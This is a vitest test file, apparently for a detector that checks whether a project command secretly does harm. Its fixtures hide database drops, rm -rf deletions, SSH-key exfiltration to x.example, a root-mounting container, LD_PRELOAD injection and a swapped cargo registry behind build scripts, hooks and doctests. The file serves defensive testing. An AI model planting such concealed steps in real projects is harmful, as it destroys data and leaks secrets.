import { test } from 'vitest'
import { expectTwin } from '../../testing/expect-twin.ts'
import type { Twin } from '../../testing/project-lines.ts'

const drops = (host: string): Twin => ({
  command: 'pytest',
  files: (told) => ({
    'conftest.py': 'from support.db import engine, reset\ndef pytest_configure(config):\n    reset(engine)\n',
    'support/db.py': `from sqlalchemy import create_engine, text\nengine = create_engine("postgresql://a:b@${told}")\ndef reset(e):\n    with e.begin() as c:\n        c.execute(text("DROP SCHEMA public CASCADE"))\n`,
  }),
  lie: [host, 'database:destroy'],
  honest: 'localhost/app_test',
})

/** A project that lies about what its command does, and one that is built alike and does its own work. */
test.each<readonly [name: string, twin: Twin]>([
  ['a database that a function of another file empties', drops('db.prod.internal/app')],
  [
    'a database on another machine that tests connect to',
    {
      command: 'npx jest',
      files: (told) => ({
        'package.json': '{"devDependencies":{"jest":"29"},"jest":{"globalSetup":"<rootDir>/test/setup.cjs"}}',
        'test/setup.cjs':
          "const { MongoClient } = require('mongodb')\nconst config = require('./config.json')\nmodule.exports = async () => (await MongoClient.connect(config.uri)).db('shop').dropDatabase()\n",
        'test/config.json': `{"uri":"mongodb://${told}/"}`,
      }),
      lie: ['cluster0.acme.mongodb.net', 'database:'],
      honest: 'localhost:27017',
    },
  ],
  [
    'data without an ending',
    {
      command: 'node a.js',
      files: (told) => ({
        'a.js': "const cp = require('child_process')\nfor (const step of require('./plan')) cp.execFileSync(step.bin, step.args)\n",
        'plan.json': `[{"bin":"git","args":["status"]},{"bin":"rm","args":["-rf","${told}"]}]`,
      }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'dist',
    },
  ],
  [
    'a folder that says what it gives',
    {
      command: 'npx tailwindcss -i a.css -o dist/a.css',
      files: (told) => ({
        'package.json': '{"devDependencies":{"tailwindcss":"3"}}',
        'tailwind.config.js': "module.exports = { theme: require('./design') }\n",
        'design/package.json': '{"exports":{".":{"require":"./lib/theme.cjs"}}}',
        'design/lib/theme.cjs': `require('fs').rmSync('${told}', { recursive: true })\n`,
      }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'dist',
    },
  ],
  [
    'a list of secrets in another file',
    {
      command: 'node a.js',
      files: (told) => ({
        'a.js':
          "const fs = require('fs')\nconst { FILES } = require('./list')\nfor (const f of FILES) fetch('https://x.example', { method: 'POST', body: fs.readFileSync(f) })\n",
        'list.js': `exports.FILES = ['${told}']\n`,
      }),
      lie: ['/root/.ssh/id_rsa', 'send:data'],
      honest: 'README.md',
    },
  ],
  [
    'words that a function of another file gives',
    {
      command: 'nox -s tests',
      files: (told) => ({
        'noxfile.py':
          'import nox\nfrom ci.steps import words\n@nox.session\ndef tests(session):\n    session.run(*words(), external=True)\n',
        'ci/steps.py': `def words(repo="pypi"):\n    return [${told}]\n`,
      }),
      lie: ['"twine", "upload", "--repository", repo, "dist/*"', 'publish:'],
      honest: '"git", "status"',
    },
  ],
  [
    'a template of a command',
    {
      command: 'python a.py',
      files: (told) => ({
        'a.py': `import os\nfrom string import Template\nCLEAN = Template("rm -rf $base")\nos.system(CLEAN.substitute(base="${told}"))\n`,
      }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'dist',
    },
  ],
  [
    'statements in files that are found',
    {
      command: 'python tools/migrate.py',
      files: (told) => ({
        'tools/migrate.py':
          'import psycopg2\nfrom pathlib import Path\ncur = psycopg2.connect(host="db.acme.io").cursor()\nfor f in sorted(Path("sql").glob("*.sql")):\n    cur.execute(f.read_text())\n',
        'sql/001.sql': told,
      }),
      lie: ['DROP DATABASE x;', 'database:destroy'],
      honest: 'CREATE TABLE IF NOT EXISTS x (id int);',
    },
  ],
  [
    'a statement in a list of Go',
    {
      command: 'go run .',
      files: (told) => ({
        'main.go': `package main\nimport "database/sql"\nvar list = []string{"SELECT 1", "${told}"}\nfunc main() {\n\tdb, _ := sql.Open("postgres", "postgres://a@db.acme.io/t")\n\tfor _, s := range list {\n\t\tdb.Exec(s)\n\t}\n}\n`,
      }),
      lie: ['DROP DATABASE x', 'database:destroy'],
      honest: 'CREATE TABLE x (id int)',
    },
  ],
  [
    'a path of Perl that is put together',
    {
      command: 'perl a.pl',
      files: (told) => ({
        'a.pl': `use File::Spec;\nuse File::Path;\nmy $d = File::Spec->catdir(${told}, 'x');\nremove_tree($d);\n`,
      }),
      lie: ['$ENV{HOME}', 'delete ~/x'],
      honest: "'dist'",
    },
  ],
  [
    'a text of Lua in quotes',
    {
      command: 'lua a.lua',
      files: (told) => ({ 'a.lua': `local d = ${told}\nos.execute(string.format("rm -rf %q", d))\n` }),
      lie: ['os.getenv("HOME") .. "/x"', 'delete ~/x'],
      honest: '"dist/x"',
    },
  ],
  [
    'what tests of Rust call',
    {
      command: 'cargo test',
      files: (told) => ({
        'Cargo.toml': '',
        'src/store.rs': `use std::path::PathBuf;\nfn wipe() { let root = ${told}; std::fs::remove_dir_all(&root).ok(); }\n#[test]\nfn t() { wipe(); }\n`,
      }),
      lie: ['PathBuf::from(std::env::var("HOME").unwrap()).join("x")', 'delete ~/x'],
      honest: 'std::env::temp_dir().join("x")',
    },
  ],
  [
    'a list of words of Rust',
    {
      command: 'cargo build',
      files: (told) => ({
        'build.rs': `use std::process::Command;\nconst WORDS: [&str; 2] = ["-rf", "${told}"];\nfn main() { Command::new("rm").args(&WORDS).status().unwrap(); }\n`,
      }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'target/x',
    },
  ],
  [
    'commands in a list of Rust',
    {
      command: 'cargo build',
      files: (told) => ({
        'build.rs': `use std::process::Command;\nfn main() { for (program, words) in [("rm", vec!["-rf", "${told}"])] { Command::new(program).args(words).status().unwrap(); } }\n`,
      }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'target/x',
    },
  ],
  [
    'a list of Elixir',
    {
      command: 'mix tidy',
      files: (told) => ({
        'mix.exs': '',
        'lib/mix/tasks/tidy.ex': `defmodule Mix.Tasks.Tidy do\n  @words ["rm", "-rf", "${told}"]\n  def run(_) do\n    [program | rest] = @words\n    System.cmd(program, rest)\n  end\nend\n`,
      }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: '_build',
    },
  ],
  [
    'a function of CMake',
    {
      command: 'cmake -B build -S .',
      files: (told) => ({
        'CMakeLists.txt': `function(reset folder)\n  file(REMOVE_RECURSE "\${folder}")\nendfunction()\nreset(${told})\n`,
      }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'build/x',
    },
  ],
  [
    'a script that a build of Meson starts',
    {
      command: 'meson setup build',
      files: (told) => ({
        'meson.build': "project('a', 'c')\nr = run_command('tools/version.sh', check: true)\n",
        'tools/version.sh': `#!/bin/sh\nrm -rf ${told}\n`,
      }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'build/x',
    },
  ],
  [
    'a file that SCons deletes',
    {
      command: 'scons',
      files: (told) => ({ SConstruct: `Execute(Delete("${told}"))\n` }),
      lie: ['../x', 'delete /x'],
      honest: 'build/x',
    },
  ],
  [
    'what a file of tasks requires',
    {
      command: 'rake lint',
      files: (told) => ({
        Rakefile: 'Dir.glob("lib/tasks/*.rake").each { |f| load f }\ntask lint: :prepare\n',
        'lib/tasks/prepare.rake': 'require_relative "../cleaner"\ntask :prepare do\n  Cleaner.new.call\nend\n',
        'lib/cleaner.rb': `class Cleaner\n  TARGETS = %w[${told}].freeze\n  def call\n    TARGETS.each { |t| FileUtils.rm_rf(t) }\n  end\nend\n`,
      }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'coverage',
    },
  ],
  [
    'a file of compose that a variable beside it names',
    {
      command: 'docker compose up -d',
      files: (told) => ({
        '.env': `# local\nCOMPOSE_FILE="compose.yaml:more/x.yaml"\n`,
        'compose.yaml': 'services: { a: { image: a } }\n',
        'more/x.yaml': `services: { a: { volumes: ["${told}:/data"] } }\n`,
      }),
      lie: ['/', 'execute:container-escape'],
      honest: './data',
    },
  ],
  [
    'a test in a folder that is named',
    {
      command: 'vitest run packages/core',
      files: (told) => ({ 'packages/core/test/a.test.ts': `import { execSync } from 'child_process'\nexecSync('rm -rf ${told}')\n` }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'dist',
    },
  ],
  [
    'a test whose name holds a word',
    {
      command: 'jest queue',
      files: (told) => ({ 'src/queue.test.js': `require('child_process').execSync('rm -rf ${told}')\n` }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'dist',
    },
  ],
  [
    'an example in a document',
    {
      command: 'python3 -m doctest docs/a.rst',
      files: (told) => ({ 'docs/a.rst': `Text.\n\n    >>> import os\n    >>> os.system("rm -rf ${told}")\n    0\n` }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'dist',
    },
  ],
  [
    'an example that tests find by their pattern',
    {
      command: "pytest --doctest-glob='*.md' docs",
      files: (told) => ({ 'docs/a.md': `>>> import shutil\n>>> for d in [1]:\n...     shutil.rmtree("${told}")\n` }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'dist',
    },
  ],
  [
    'a part of a package in place of one of the language',
    {
      command: 'python3 -m json.tool',
      files: (told) => ({ 'json/tool.py': `import os\nos.system("rm -rf ${told}")\n`, 'json/__init__.py': '' }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'dist',
    },
  ],
  [
    'a script of the same name in the file of another tool',
    {
      command: 'pipenv run tidy',
      files: (told) => ({ 'pyproject.toml': '[tool.poe.tasks]\ntidy = "true"\n', Pipfile: `[scripts]\ntidy = "rm -rf ${told}"\n` }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'dist',
    },
  ],
  [
    'commands around a build',
    {
      command: 'dub build',
      files: (told) => ({ 'dub.json': `{ "name": "x", "preBuildCommands": ["rm -rf ${told}"] }\n` }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'dist',
    },
  ],
  [
    'a macro that runs while it is put in',
    {
      command: 'autoreconf -i',
      files: (told) => ({ 'configure.ac': `AC_INIT([x], m4_esyscmd([rm -rf ${told}]))\n` }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'dist',
    },
  ],
  [
    'hooks that are put in place',
    {
      command: 'npx simple-git-hooks',
      files: (told) => ({
        'package.json': `{ "devDependencies": { "simple-git-hooks": "^2" }, "simple-git-hooks": { "pre-commit": "rm -rf ${told}" } }\n`,
      }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'dist',
    },
  ],
  [
    'variables that cargo gives',
    {
      command: 'cargo test',
      files: (told) => ({ '.cargo/config.toml': `[env]\n${told} = { value = "/opt/x", force = true }\n` }),
      lie: ['LD_PRELOAD', 'unknown: `LD_PRELOAD` changes what runs'],
      honest: 'SNAPSHOTS',
    },
  ],
  [
    'where cargo takes packages from',
    {
      command: 'cargo fetch',
      files: (told) => ({
        '.cargo/config.toml': `[source.crates-io]\nreplace-with = "m"\n[source.m]\nregistry = "sparse+https://${told}/"\n`,
      }),
      lie: ['x.example', 'install:url https://x.example/'],
      honest: 'index.crates.io',
    },
  ],
])('%s', (_name, twin) => expectTwin(twin))
